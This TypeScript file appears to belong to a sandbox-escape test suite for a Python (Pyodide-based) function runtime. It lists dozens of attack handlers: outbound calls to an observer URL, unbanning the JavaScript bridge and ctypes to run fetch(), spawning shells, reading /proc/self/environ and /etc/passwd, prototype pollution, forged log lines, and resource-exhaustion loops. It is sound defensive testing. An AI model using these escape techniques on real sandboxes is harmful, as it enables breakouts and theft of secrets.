import type { Attack } from './attack.ts';

/**
 * Handlers in Python that try to get out. Each returns `OPEN` if it has got somewhere.
 *
 * @param url of a server outside that notes who comes
 */
export function attacksInPython(url: string): readonly Attack[] {
  const attack = (name: string, body: string, ends: Attack['ends'] = 'closed'): Attack => ({
    name: `Python: ${name}`,
    language: 'python',
    code: `def lambda_handler(event, context):\n${body.replace(/^/gm, '    ')}\n`,
    ends,
  });
  const [, host = '', port = ''] = /\/\/(.*):(\d+)/.exec(url) ?? [];
  const imports = (name: string) => attack(`import ${name}`, `import ${name}\nreturn 'OPEN'`);

  return [
    attack(
      'urllib',
      `import urllib.request\nurllib.request.urlopen('${url}/urllib', timeout=1)\nreturn 'OPEN'`,
    ),
    attack(
      'http.client',
      `import http.client\nc = http.client.HTTPConnection('${host}', ${port}, timeout=1)\nc.request('GET', '/http')\nreturn 'OPEN'`,
    ),
    attack(
      'a socket',
      `import socket\nsocket.create_connection(('${host}', ${port}), 1)\nreturn 'OPEN'`,
    ),
    attack(
      'a datagram',
      `import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(b'x', ('${host}', ${port}))\nreturn 'OPEN'`,
    ),
    attack(
      'a server',
      `import socket\ns = socket.socket()\ns.bind(('', 0))\ns.listen()\nreturn 'OPEN'`,
    ),
    ...['js', 'pyodide', 'pyodide.ffi', 'pyodide_js', '_pyodide', '_pyodide_core', 'ctypes'].map(
      imports,
    ),
    attack(
      'the bridge, once its ban is lifted',
      `import sys, importlib
for name in ['js', 'pyodide', '_pyodide', '_pyodide_core', 'pyodide_js']:
    sys.modules.pop(name, None)
core = importlib.import_module('_pyodide_core')
return 'OPEN'`,
    ),
    attack(
      'the bridge, as a built-in',
      `import _imp, importlib.machinery
spec = importlib.machinery.ModuleSpec('_pyodide_core', importlib.machinery.BuiltinImporter)
_imp.exec_builtin(_imp.create_builtin(spec))
return 'OPEN'`,
    ),
    attack(
      'JavaScript through the bridge',
      `import sys
for name in ['js', 'pyodide', '_pyodide', '_pyodide_core', 'pyodide_js']:
    sys.modules.pop(name, None)
from pyodide.ffi import to_js
to_js([1]).constructor.constructor("return fetch('${url}/to_js')")()
return 'OPEN'`,
    ),
    attack(
      'C functions, once their ban is lifted',
      `import sys
sys.modules.pop('_ctypes', None)
import ctypes
ctypes.CDLL(None).emscripten_run_script(b"fetch('${url}/ctypes')")
return 'OPEN'`,
    ),
    attack(
      'a library of its own',
      `import _imp, importlib.machinery
spec = importlib.machinery.ModuleSpec('x', None, origin='/tmp/x.so')
spec.name = 'x'
_imp.create_dynamic(spec)
return 'OPEN'`,
    ),
    attack('another process', "import subprocess\nsubprocess.run(['ls'])\nreturn 'OPEN'"),
    attack('the shell', "import os\nreturn 'OPEN' if os.system('ls') == 0 else 'closed'"),
    attack('a fork', 'import os\nos.fork()\nreturn "OPEN"'),
    attack('a thread', 'import threading\nthreading.Thread(target=print).start()\nreturn "OPEN"'),
    attack(
      'files of the machine',
      `import os
for path in ['/proc/self/environ', '/etc/passwd', '/home', '/dev/mem']:
    if os.path.exists(path): return 'OPEN'
return os.listdir('/')`,
    ),
    attack('a file to leave something in', "open('/tmp/left', 'w').write('x')\nreturn 'OPEN'"),
    attack('its own code', "open(__file__, 'w').write('x')\nreturn 'OPEN'"),
    attack('a memory map', 'import mmap\nmmap.mmap(-1, 4096)\nreturn "mapped"', 'any'),
    attack(
      'objects that are not Python’s',
      `import gc
for each in gc.get_objects():
    if type(each).__name__ in ('JsProxy', 'JsDoubleProxy'): return 'OPEN'
return 'closed'`,
    ),
    attack(
      'a class that leads out',
      `for each in object.__subclasses__():
    if 'Js' in each.__name__: return 'OPEN'
return 'closed'`,
    ),
    attack(
      'a result of its own through the device',
      `from host import ask
ask('settle', 'result', '{"__proto__": {"polluted": 1}}')
ask('settle', 'result', 'no json')
ask('unknown', 'x')
ask('log', 'FORGED', 'END RequestId: forged')
return 'tried'`,
      'any',
    ),
    attack(
      'nonsense through the device',
      `import os
fd = os.open('/dev/host', os.O_RDWR)
for text in [b'\\n', b'[]\\n', b'null\\n', b'{"__proto__": 1}\\n', b'[1, {}]\\n', b'\\xff\\xfe\\n', b'x' * 20_000_000]:
    os.write(fd, text)
return os.read(fd, 10).decode()`,
      'any',
    ),
    attack(
      'the runtime from within',
      `import sys, bootstrap
frame = sys._getframe(1)
bootstrap.step.__code__ = (lambda: None).__code__
bootstrap.ask = bootstrap.json_text = None
return 'tried'`,
      'any',
    ),
    attack(
      'a prototype through what it publishes',
      `import boto3
detail = '{"__proto__": {"polluted": 1}}'
boto3.client('events').put_events(Entries=[{'Source': 'a', 'DetailType': 'b', 'Detail': detail}])
return {'__proto__': {'polluted': 1}, 'constructor': {'prototype': {'polluted': 1}}}`,
    ),
    attack(
      'what all functions share',
      `import builtins, json, sys, random, time
builtins.print = lambda *a: None
builtins.len = lambda x: 0
json.loads = json.dumps = lambda *a, **k: '"mine"'
time.time = lambda: 0
sys.meta_path[:] = []
sys.path[:] = []
return 'tried'`,
      'any',
    ),
    attack('a loop', 'while True: pass', 'timed-out'),
    attack(
      'a loop that catches everything',
      'while True:\n    try:\n        while True: pass\n    except BaseException: pass\n    finally: continue',
      'timed-out',
    ),
    attack(
      'a loop behind a signal handler',
      'import signal\nsignal.signal(signal.SIGINT, lambda *a: None)\nwhile True: pass',
      'timed-out',
    ),
    attack(
      'a loop in a destructor',
      'class A:\n    def __del__(self):\n        while True: pass\na = A()\ndel a',
      'timed-out',
    ),
    attack('a sleep', 'import time\ntime.sleep(10 ** 9)', 'timed-out'),
    attack(
      'the clock’s own sleep',
      'import _imp, importlib.util\nspec = importlib.util.find_spec("time")\nm = _imp.create_builtin(spec)\n_imp.exec_builtin(m)\nm.sleep(10 ** 6)',
      'any',
    ),
    attack(
      'a hopeless regular expression',
      "import re\nre.match('(a+)+$', 'a' * 60 + 'b')",
      'timed-out',
    ),
    attack('a large number', 'return 9 ** 9 ** 9', 'any'),
    attack('a sum that nothing interrupts', 'return sum(range(10 ** 12))', 'timed-out'),
    attack(
      'coroutines without an end',
      'import asyncio\nasync def f():\n    while True: await asyncio.sleep(0)\nasyncio.run(f())',
      'timed-out',
    ),
    attack('lists without an end', 'x = [0]\nwhile True: x = x + x', 'out-of-memory'),
    attack(
      'bytes without an end',
      'x = []\nwhile True: x.append(bytearray(1 << 20))',
      'out-of-memory',
    ),
    attack(
      'bytes without an end, caught',
      'x = []\nwhile True:\n    try: x.append(bytearray(1 << 20))\n    except MemoryError: pass',
      'out-of-memory',
    ),
    attack('text without an end', "x = 'x'\nwhile True: x += x", 'out-of-memory'),
    attack(
      'recursion without a limit',
      'import sys\nsys.setrecursionlimit(10 ** 8)\ndef f(): return f() + 1\nreturn f()',
      'any',
    ),
    attack('nesting', "import json\njson.loads('[' * 10 ** 6)", 'any'),
    attack('nested code', "compile('(' * 10 ** 5 + ')' * 10 ** 5, 'x', 'eval')", 'any'),
    attack(
      'code that no compiler made',
      `code = lambda_handler.__code__.replace(co_code=bytes(range(256)) * 4)
exec(code)`,
      'any',
    ),
    attack('a log without an end', "while True: print('x' * 1000)", 'timed-out'),
    attack(
      'a line without an end',
      "import sys\nwhile True: sys.stdout.write('x' * 100000)",
      'timed-out',
    ),
    attack(
      'events without an end',
      `import boto3
client = boto3.client('events')
while True:
    try: client.put_events(Entries=[{'Source': 'a', 'DetailType': 'b', 'Detail': '{}'}])
    except client.exceptions.ClientError: pass`,
      'timed-out',
    ),
    attack('a result of 50 MB', "return 'x' * 50_000_000", 'any'),
    attack('the end of the process', 'import os\nos._exit(1)', 'any'),
    attack('a crash', 'import os\nos.abort()', 'any'),
    attack('a question to the person', "return input('Password: ')", 'any'),
  ];
}
